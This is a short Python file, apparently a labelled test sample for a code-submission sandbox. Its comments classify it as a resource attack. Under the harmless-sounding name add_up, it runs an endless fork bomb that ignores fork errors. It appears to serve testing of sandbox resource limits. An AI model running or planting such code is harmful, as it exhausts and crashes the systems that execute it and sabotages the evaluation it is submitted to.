# class: resources
# tries: forks without end
# stock: loses the submission
import os

def add_up(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
